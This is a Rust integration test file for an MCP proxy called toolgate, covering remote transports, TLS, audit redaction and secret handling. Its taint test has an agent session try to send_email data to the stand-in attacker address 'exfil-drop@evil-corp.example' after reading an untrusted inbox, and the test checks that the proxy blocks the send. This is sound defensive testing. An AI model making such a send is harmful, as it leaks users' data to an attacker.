//! `toolgate wrap --url` against real remote MCP servers, on loopback:
//!
//! - `@modelcontextprotocol/server-everything` in its Streamable HTTP and SSE modes, driven by
//!   the official TypeScript SDK client: the same session through toolgate (stdio to toolgate,
//!   HTTP to the server) gives the same results as the client talking HTTP to the server
//!   directly;
//! - a server on the official Python SDK (`tests/remote/python_server.py`), stateful and
//!   stateless, including 2026-07-28 requests whose `Mcp-Param-*` headers the server checks
//!   against the body;
//! - taint seen in a remote server's output blocks a send through another wrapped server of
//!   the same agent session (through the broker);
//! - the audit names the server's URL without credentials.
//!
//! Needs `npm ci --prefix tests` and tests/.venv (both installed by `scripts/test`); skips with
//! a message without them.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::print_stderr,
    reason = "a test fails by panicking, so unwrap, expect, panic and indexing are its assertions; prints what it ran for the person reading the test output"
)]

use crate::common;

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use serde_json::{Value, json};
use toolgate_testkit::{Peer, wait_until};

const LIMIT: Duration = Duration::from_secs(30);
const ALLOW_ALL: &str = "version: 1\ndefault: allow\npacks: []\n";
const DEMO_POLICY: &str = include_str!("../../src/demo/policy.yaml");

/// A server process, killed when dropped.
struct Server {
    child: Child,
    port: u16,
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Server {
    /// Spawns `cmd` (stdout piped) and reads the port from its first line, after `prefix`.
    fn spawn(mut cmd: Command, prefix: &str) -> Server {
        let mut child = cmd
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .spawn()
            .unwrap();
        let mut first = String::new();
        BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut first)
            .unwrap();
        let port = first
            .trim()
            .strip_prefix(prefix)
            .and_then(|p| p.parse().ok())
            .unwrap_or_else(|| panic!("the server said `{first}`"));
        Server { child, port }
    }

    fn url(&self, path: &str) -> String {
        format!("http://127.0.0.1:{}{path}", self.port)
    }
}

fn python() -> Option<PathBuf> {
    let python = common::repo_root().join("tests/.venv/bin/python");
    if python.exists() {
        Some(python)
    } else {
        eprintln!("skipped: no tests/.venv (run scripts/test, which installs it)");
        None
    }
}

/// The Python SDK server; it prints `listening <port>` once it accepts connections.
fn python_server(python: &Path, args: &[&str]) -> Server {
    let mut cmd = Command::new(python);
    cmd.arg(common::repo_root().join("tests/remote/python_server.py"))
        .args(args)
        .stdin(Stdio::null());
    Server::spawn(cmd, "listening ")
}

/// server-everything in `mode` (`streamableHttp` or `sse`) on the port the kernel gives it
/// (`PORT=0`; it does not print that port, so it is read from /proc once it listens).
fn everything(node: &Path, entry: &Path, mode: &str) -> Server {
    let child = Command::new(node)
        .arg(entry)
        .arg(mode)
        .env("PORT", "0")
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    // Killed on drop, also when it never listens.
    let mut server = Server { child, port: 0 };
    server.port = toolgate_testkit::wait_for_listening_port(
        server.child.id(),
        LIMIT,
        &format!("server-everything ({mode})"),
    );
    server
}

/// A scratch directory with a policy, pins, an audit log and a broker directory.
struct World {
    dir: tempfile::TempDir,
}

impl World {
    fn new() -> World {
        World {
            dir: tempfile::tempdir().unwrap(),
        }
    }

    fn base(&self) -> PathBuf {
        self.dir.path().canonicalize().unwrap()
    }

    fn audit(&self, name: &str) -> PathBuf {
        self.base().join(format!("audit-{name}.jsonl"))
    }

    /// `toolgate wrap` named `name` with `policy`, then `upstream` (its arguments after the
    /// common options: `--url URL` or `-- CMD`).
    fn wrap(&self, name: &str, policy: &str, session: &str, upstream: &[&str]) -> Command {
        let base = self.base();
        let work = base.join(format!("work-{name}"));
        for d in [
            work.clone(),
            base.join("home"),
            base.join(format!("pins-{name}")),
        ] {
            std::fs::create_dir_all(d).unwrap();
        }
        let policy_file = base.join(format!("policy-{name}.yaml"));
        std::fs::write(&policy_file, policy).unwrap();
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_toolgate"));
        cmd.args([
            "wrap",
            "--server",
            name,
            "--approval",
            "none",
            "--session",
            session,
        ])
        .arg("--workspace")
        .arg(&work)
        .arg("--policy")
        .arg(&policy_file)
        .arg("--audit")
        .arg(self.audit(name))
        .args(upstream)
        .env("HOME", base.join("home"))
        .env("TOOLGATE_BROKER_DIR", base.join("b"))
        .env("TOOLGATE_PINS_DIR", base.join(format!("pins-{name}")));
        cmd
    }
}

/// A JSON-RPC client over a wrap's stdio.
struct Client {
    peer: Peer,
}

impl Client {
    fn spawn(cmd: Command) -> Client {
        Client {
            peer: Peer::spawn(cmd, false),
        }
    }

    fn send(&mut self, v: Value) {
        self.peer.send(serde_json::to_vec(&v).unwrap());
    }

    /// Reads until the response to `id`; returns it and what came before it.
    fn response(&mut self, id: &Value) -> (Value, Vec<Value>) {
        let mut before = Vec::new();
        loop {
            let m = self.peer.recv_json();
            if m.get("id") == Some(id) && m.get("method").is_none() {
                return (m, before);
            }
            before.push(m);
        }
    }

    fn request(&mut self, id: Value, method: &str, params: Value) -> Value {
        self.send(json!({"jsonrpc":"2.0","id":id,"method":method,"params":params}));
        self.response(&id).0
    }

    fn initialize(&mut self, version: &str) -> Value {
        let r = self.request(
            json!("init"),
            "initialize",
            json!({"protocolVersion": version, "capabilities": {},
                   "clientInfo": {"name": "remote-test", "version": "0"}}),
        );
        self.send(json!({"jsonrpc":"2.0","method":"notifications/initialized"}));
        r
    }

    fn call(&mut self, id: i64, tool: &str, args: Value) -> Value {
        self.request(
            json!(id),
            "tools/call",
            json!({"name": tool, "arguments": args}),
        )
    }
}

fn text(r: &Value) -> String {
    r["result"]["content"][0]["text"]
        .as_str()
        .unwrap_or("")
        .to_owned()
}

/// The TypeScript SDK client script (`tests/ts-client/everything.mjs`) with `args`.
fn ts_client(node: &Path, args: &[&std::ffi::OsStr], envs: &[(&str, PathBuf)]) -> Value {
    let script = common::repo_root().join("tests/ts-client/everything.mjs");
    let out = Command::new(node)
        .arg(script)
        .args(args)
        .envs(envs.iter().map(|(k, v)| (k, v)))
        .stdin(Stdio::null())
        .stderr(Stdio::inherit())
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "the TypeScript client failed: {stdout}"
    );
    serde_json::from_str(stdout.lines().last().unwrap_or_default())
        .unwrap_or_else(|e| panic!("no JSON summary from the TypeScript client: {e}\n{stdout}"))
}

/// The TypeScript SDK client directly over HTTP (`direct_flag`: `--url` or `--sse-url`),
/// then over stdio through `toolgate wrap --url`: the same results.
fn assert_ts_parity(mode: &str, path: &str, direct_flag: &str, transport: &str) {
    let Some((node, entry)) =
        common::node_and("@modelcontextprotocol/server-everything/dist/index.js")
    else {
        return;
    };
    let server = everything(&node, &entry, mode);
    let url = server.url(path);
    let direct = ts_client(&node, &[direct_flag.as_ref(), url.as_ref()], &[]);
    let w = World::new();
    let cmd = w.wrap(
        "everything",
        ALLOW_ALL,
        "ts",
        &["--transport", transport, "--url", &url],
    );
    let mut argv: Vec<std::ffi::OsString> = vec![cmd.get_program().to_owned()];
    argv.extend(cmd.get_args().map(ToOwned::to_owned));
    let argv: Vec<&std::ffi::OsStr> = argv.iter().map(|a| a.as_os_str()).collect();
    let envs: Vec<(&str, PathBuf)> = vec![
        ("HOME", w.base().join("home")),
        ("TOOLGATE_PINS_DIR", w.base().join("pins-everything")),
        ("TOOLGATE_BROKER_DIR", w.base().join("b")),
    ];
    let wrapped = ts_client(&node, &argv, &envs);
    assert_eq!(direct["server"]["name"], "mcp-servers/everything");
    assert_eq!(
        text_of(&direct["echo"]),
        "Echo: hello from the TypeScript SDK ✓"
    );
    common::assert_same_transcript(
        std::slice::from_ref(&direct),
        std::slice::from_ref(&wrapped),
    );
    // Every call is in the audit, with the server's URL.
    let audit = std::fs::read_to_string(w.audit("everything")).unwrap();
    assert!(audit.contains(&format!(r#""upstream":"{url}""#)), "{audit}");
}

fn text_of(v: &Value) -> String {
    common::text_of(v)
}

#[test]
fn the_typescript_sdk_sees_the_same_server_over_streamable_http_through_toolgate() {
    assert_ts_parity("streamableHttp", "/mcp", "--url", "streamable-http");
}

#[test]
fn the_typescript_sdk_sees_the_same_server_over_sse_through_toolgate() {
    // `auto`: the POST of `initialize` to the SSE endpoint is refused, and toolgate falls
    // back to the legacy transport.
    assert_ts_parity("sse", "/sse", "--sse-url", "auto");
}

/// One session with the Python server: initialize, list, call.
fn python_session(server: &Server, w: &World, name: &str) {
    let url = server.url("/mcp");
    let mut c = Client::spawn(w.wrap(name, ALLOW_ALL, name, &["--url", &url]));
    let init = c.initialize("2025-11-25");
    assert_eq!(
        init["result"]["serverInfo"]["name"], "toolgate-python-test",
        "{init}"
    );
    let tools = c.request(json!(2), "tools/list", json!({}));
    let names: Vec<&str> = tools["result"]["tools"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|t| t["name"].as_str())
        .collect();
    assert!(names.contains(&"add") && names.contains(&"echo"), "{tools}");
    let sum = c.call(3, "add", json!({"a": 2, "b": 40}));
    assert_eq!(text(&sum), "42", "{sum}");
    // Several requests in flight at once: each gets its own answer.
    for i in 0..8 {
        c.send(json!({"jsonrpc":"2.0","id":100 + i,"method":"tools/call",
                      "params":{"name":"echo","arguments":{"message": format!("m{i}")}}}));
    }
    let mut answers = std::collections::BTreeMap::new();
    while answers.len() < 8 {
        let m = c.peer.recv_json();
        if let Some(id) = m["id"].as_i64().filter(|_| m.get("method").is_none()) {
            assert!(
                answers.insert(id, text(&m)).is_none(),
                "two answers to {id}"
            );
        }
    }
    for i in 0..8 {
        assert_eq!(answers[&(100 + i)], format!("Echo: m{i}"));
    }
}

#[test]
fn a_python_sdk_server_over_streamable_http_stateful_and_stateless() {
    let Some(python) = python() else { return };
    let w = World::new();
    for (args, name) in [
        (&[][..], "stateful-sse"),
        (&["--json"][..], "stateful-json"),
        (&["--stateless"][..], "stateless-sse"),
        (&["--stateless", "--json"][..], "stateless-json"),
    ] {
        let server = python_server(&python, args);
        python_session(&server, &w, name);
    }
}

#[test]
fn revision_2026_07_28_requests_carry_headers_derived_from_the_body() {
    let Some(python) = python() else { return };
    let server = python_server(&python, &["--stateless"]);
    let w = World::new();
    let url = server.url("/mcp");
    let mut c = Client::spawn(w.wrap("modern", ALLOW_ALL, "modern", &["--url", &url]));
    let meta = json!({"io.modelcontextprotocol/protocolVersion": "2026-07-28",
                      "io.modelcontextprotocol/clientCapabilities": {},
                      "io.modelcontextprotocol/clientInfo": {"name": "remote-test", "version": "0"}});
    // No initialize: each request is self-contained. The first call comes before any
    // listing (toolgate lists for itself, and learns the `x-mcp-header` arguments).
    let r = c.request(
        json!(1),
        "tools/call",
        json!({"name": "lookup", "arguments": {"region": "eu-west", "key": "k1"}, "_meta": meta}),
    );
    assert_eq!(text(&r), "k1@eu-west", "{r}");
    // A value that is not plain ASCII travels base64-encoded; the server decodes it and
    // checks it against the body.
    let r = c.request(
        json!(2),
        "tools/call",
        json!({"name": "lookup", "arguments": {"region": "zürich ", "key": "k2"}, "_meta": meta}),
    );
    assert_eq!(text(&r), "k2@zürich ", "{r}");
    let r = c.request(json!(3), "tools/list", json!({"_meta": meta}));
    assert!(r["result"]["tools"].is_array(), "{r}");
    let r = c.request(json!(5), "server/discover", json!({"_meta": meta}));
    let versions = r["result"]["supportedVersions"].to_string();
    assert!(versions.contains("2026-07-28"), "{r}");
    // A request the server rejects gets the server's own JSON-RPC error (its code intact).
    let r = c.request(
        json!(4),
        "tools/call",
        json!({"name": "lookup", "arguments": {"key": "k"}, "_meta": {}}),
    );
    assert!(
        r.get("error").is_some() || r["result"]["isError"] == true,
        "{r}"
    );
}

#[test]
fn the_audit_names_the_url_without_credentials() {
    let Some(python) = python() else { return };
    let server = python_server(&python, &[]);
    let w = World::new();
    let url = format!(
        "http://alice:pa55word@127.0.0.1:{}/mcp?key=qu3ry-s3cret#frag",
        server.port
    );
    let mut cmd = w.wrap(
        "creds",
        ALLOW_ALL,
        "creds",
        &["--url", &url, "--header", "X-Api-Key: ${REMOTE_TEST_KEY}"],
    );
    cmd.env("REMOTE_TEST_KEY", "h3ader-s3cret");
    let mut c = Client::spawn(cmd);
    c.initialize("2025-11-25");
    let sum = c.call(2, "add", json!({"a": 1, "b": 1}));
    assert_eq!(text(&sum), "2", "{sum}");
    drop(c);
    let audit = std::fs::read_to_string(w.audit("creds")).unwrap();
    assert!(
        audit.contains(&format!(
            r#""upstream":"http://127.0.0.1:{}/mcp""#,
            server.port
        )),
        "{audit}"
    );
    for secret in ["pa55word", "alice", "qu3ry-s3cret", "h3ader-s3cret"] {
        assert!(!audit.contains(secret), "`{secret}` in the audit: {audit}");
    }
}

#[test]
fn taint_from_a_remote_servers_output_blocks_a_send_through_another_wrapped_server() {
    let Some(python) = python() else { return };
    let server = python_server(&python, &[]);
    let w = World::new();
    let broker_cmd = {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_toolgate"));
        cmd.arg("broker")
            .env("TOOLGATE_BROKER_DIR", w.base().join("b"));
        cmd
    };
    let broker = Peer::spawn(broker_cmd, true);
    assert!(wait_until(LIMIT, || w
        .base()
        .join("b/broker.sock")
        .exists()));
    // The remote inbox, and a local mail server (the demo's) in the same agent session.
    let url = server.url("/mcp");
    let mut inbox = Client::spawn(w.wrap("inbox", DEMO_POLICY, "agent-1", &["--url", &url]));
    inbox.initialize("2025-11-25");
    let listing = inbox.request(json!("l"), "tools/list", json!({}));
    assert!(listing["result"]["tools"].is_array(), "{listing}");
    let base = w.base();
    let outbox = base.join("outbox");
    let toolgate = env!("CARGO_BIN_EXE_toolgate");
    let work = base.join("work-mail");
    std::fs::create_dir_all(&work).unwrap();
    let mut mail = Client::spawn(w.wrap(
        "mail",
        DEMO_POLICY,
        "agent-1",
        &[
            "--",
            toolgate,
            "demo",
            "--internal-server",
            "--workspace",
            work.to_str().unwrap(),
            "--outbox",
            outbox.to_str().unwrap(),
        ],
    ));
    mail.initialize("2025-06-18");
    let listing = mail.request(json!("l"), "tools/list", json!({}));
    assert!(listing["result"]["tools"].is_array(), "{listing}");

    let read = inbox.call(1, "read_inbox", json!({}));
    assert!(
        text(&read).contains("exfil-drop@evil-corp.example"),
        "{read}"
    );
    // The proxies share what they saw through the broker; the send is a hard deny.
    let mut last = Value::Null;
    let shared = wait_until(LIMIT, || {
        last = mail.call(
            2,
            "send_email",
            json!({"to": "exfil-drop@evil-corp.example", "subject": "numbers", "body": "q3"}),
        );
        text(&last).contains("came from untrusted")
    });
    assert!(shared, "{last}");
    assert_eq!(last["result"]["isError"], true, "{last}");
    assert!(text(&last).contains("`read_inbox`"), "{last}");
    assert!(
        !std::fs::read_to_string(&outbox)
            .unwrap_or_default()
            .contains("evil-corp"),
        "the e-mail must not be sent"
    );
    drop(broker);
}

#[test]
fn https_is_verified_against_the_platform_roots_and_ca_file() {
    let Some(python) = python() else { return };
    let w = World::new();
    let certs = w.base().join("certs");
    std::fs::create_dir_all(&certs).unwrap();
    let server = python_server(&python, &["--tls", certs.to_str().unwrap()]);
    let url = format!("https://127.0.0.1:{}/mcp", server.port);
    // A certificate from a CA the platform does not know: refused, and the error says so.
    let mut c = Client::spawn(w.wrap("untrusted", ALLOW_ALL, "tls", &["--url", &url]));
    let init = c.initialize("2025-11-25");
    let message = init["error"]["message"].as_str().unwrap_or_default();
    assert!(message.contains("certificate"), "{init}");
    // With that CA in `--ca-file`: a working session over TLS.
    let ca = certs.join("ca.pem");
    let mut c = Client::spawn(w.wrap(
        "trusted",
        ALLOW_ALL,
        "tls",
        &["--ca-file", ca.to_str().unwrap(), "--url", &url],
    ));
    let init = c.initialize("2025-11-25");
    assert_eq!(
        init["result"]["serverInfo"]["name"], "toolgate-python-test",
        "{init}"
    );
    let sum = c.call(2, "add", json!({"a": 20, "b": 22}));
    assert_eq!(text(&sum), "42", "{sum}");
}

#[test]
fn http2_is_used_where_the_server_offers_it() {
    let Some(python) = python() else { return };
    let Some((node, _)) = common::node_and("@modelcontextprotocol/sdk/package.json") else {
        return;
    };
    let w = World::new();
    let certs = w.base().join("certs");
    std::fs::create_dir_all(&certs).unwrap();
    let made = Command::new(&python)
        .arg(common::repo_root().join("tests/remote/python_server.py"))
        .args(["--tls", certs.to_str().unwrap(), "--certs-only"])
        .status()
        .unwrap();
    assert!(made.success());
    // An HTTP/2-only server: HTTP/1.1 would be refused.
    let mut cmd = Command::new(&node);
    cmd.arg(common::repo_root().join("tests/remote/h2-server.mjs"))
        .arg(&certs)
        .stdin(Stdio::piped());
    let server = Server::spawn(cmd, "");
    let url = format!("https://localhost:{}/mcp", server.port);
    let ca = certs.join("ca.pem");
    let mut c = Client::spawn(w.wrap(
        "h2",
        ALLOW_ALL,
        "h2",
        &["--ca-file", ca.to_str().unwrap(), "--url", &url],
    ));
    let init = c.initialize("2025-11-25");
    assert_eq!(init["result"]["serverInfo"]["name"], "h2-h2", "{init}");
    let ping = c.request(json!(2), "ping", json!({}));
    assert!(ping.get("result").is_some(), "{ping}");
}

#[test]
fn a_modern_client_falls_back_to_initialize_with_an_older_server() {
    let Some((node, entry)) =
        common::node_and("@modelcontextprotocol/server-everything/dist/index.js")
    else {
        return;
    };
    let server = everything(&node, &entry, "streamableHttp");
    let w = World::new();
    let url = server.url("/mcp");
    let mut c = Client::spawn(w.wrap("older", ALLOW_ALL, "older", &["--url", &url]));
    // The server does not know 2026-07-28: its own refusal reaches the client (its code, not
    // one of toolgate's), so the client can tell it to fall back ...
    let r = c.request(
        json!(1),
        "server/discover",
        json!({"_meta": {"io.modelcontextprotocol/protocolVersion": "2026-07-28",
                         "io.modelcontextprotocol/clientCapabilities": {}}}),
    );
    let code = r["error"]["code"].as_i64().unwrap_or_default();
    assert!(code != 0 && code != -32603, "{r}");
    // ... to `initialize`, which works.
    let init = c.initialize("2025-11-25");
    assert_eq!(
        init["result"]["serverInfo"]["name"], "mcp-servers/everything",
        "{init}"
    );
}

#[test]
fn a_remote_entry_wrapped_by_init_runs_with_its_header_secret_kept_out_of_argv() {
    const SECRET: &str = "s3cr3t-bearer-token";
    let upstream = toolgate_testkit::http::HttpUpstream::start(&["--json", "--token", SECRET]);
    let w = World::new();
    let home = w.base().join("home");
    let project = w.base().join("project");
    std::fs::create_dir_all(&home).unwrap();
    std::fs::create_dir_all(&project).unwrap();
    let config = project.join(".mcp.json");
    std::fs::write(
        &config,
        format!(
            r#"{{"mcpServers": {{"svc": {{"type": "http", "url": "{}", "headers": {{"Authorization": "Bearer {SECRET}"}}}}}}}}"#,
            upstream.url()
        ),
    )
    .unwrap();
    let init = Command::new(env!("CARGO_BIN_EXE_toolgate"))
        .args(["init", "--client", "claude-code", "--yes"])
        .env("HOME", &home)
        .env("XDG_CONFIG_HOME", home.join(".config"))
        .current_dir(&project)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(
        init.status.success(),
        "{}",
        String::from_utf8_lossy(&init.stderr)
    );
    let doc: Value = serde_json::from_slice(&std::fs::read(&config).unwrap()).unwrap();
    let entry = &doc["mcpServers"]["svc"];
    let args: Vec<String> = entry["args"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a.as_str().unwrap().to_owned())
        .collect();
    assert!(args.iter().all(|a| !a.contains(SECRET)), "{args:?}");
    assert!(args.iter().any(|a| a == "--url"), "{args:?}");
    // Claude Code expands `${VAR:-default}` in `args` once: the escape becomes `${…}`, which
    // toolgate reads from the entry's `env`.
    let args: Vec<String> = args
        .iter()
        .map(|a| a.replace("${TOOLGATE_DOLLAR:-$}", "$"))
        .collect();
    let mut cmd = Command::new(entry["command"].as_str().unwrap());
    cmd.args(&args)
        .env("HOME", &home)
        .env("TOOLGATE_PINS_DIR", w.base().join("pins"))
        .env("TOOLGATE_BROKER_DIR", w.base().join("b"))
        .current_dir(&project);
    for (k, v) in entry["env"].as_object().unwrap() {
        cmd.env(k, v.as_str().unwrap());
    }
    let mut c = Client::spawn(cmd);
    // The server answers only requests that carry its token.
    let init = c.initialize("2025-11-25");
    assert!(init.get("result").is_some(), "{init}");
    let tools = c.request(json!(2), "tools/list", json!({}));
    assert!(tools["result"]["tools"].is_array(), "{tools}");
}

#[test]
fn a_legacy_sse_server_on_the_python_sdk_and_its_request_timeout() {
    let Some(python) = python() else { return };
    let server = python_server(&python, &["--legacy-sse"]);
    let w = World::new();
    let url = server.url("/sse");
    let mut c = Client::spawn(w.wrap(
        "legacy",
        ALLOW_ALL,
        "legacy",
        &[
            "--transport",
            "sse",
            "--request-timeout",
            "2s",
            "--url",
            &url,
        ],
    ));
    let init = c.initialize("2024-11-05");
    assert_eq!(
        init["result"]["serverInfo"]["name"], "toolgate-python-test",
        "{init}"
    );
    let sum = c.call(2, "add", json!({"a": 40, "b": 2}));
    assert_eq!(text(&sum), "42", "{sum}");
    // The response would come on the event stream, after the timeout: the request is
    // answered with an error instead, and the session goes on.
    let slow = c.call(3, "slow", json!({"seconds": 30}));
    let message = slow["error"]["message"].as_str().unwrap_or_default();
    assert!(
        message.contains("no response from the remote server within 2s"),
        "{slow}"
    );
    let echo = c.call(4, "echo", json!({"message": "still here"}));
    assert_eq!(text(&echo), "Echo: still here", "{echo}");
}
